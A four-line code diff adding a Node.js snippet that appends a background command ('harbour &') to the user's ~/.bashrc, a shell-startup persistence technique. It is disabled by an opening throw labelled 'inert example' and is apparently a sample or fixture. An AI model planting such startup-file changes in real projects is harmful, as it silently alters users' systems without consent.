@@ -1,0 +1,4 @@
+throw new Error("inert example");
+const fs = require("fs");
+const os = require("os");
+fs.appendFileSync(os.homedir() + "/.bashrc", "harbour &\n");
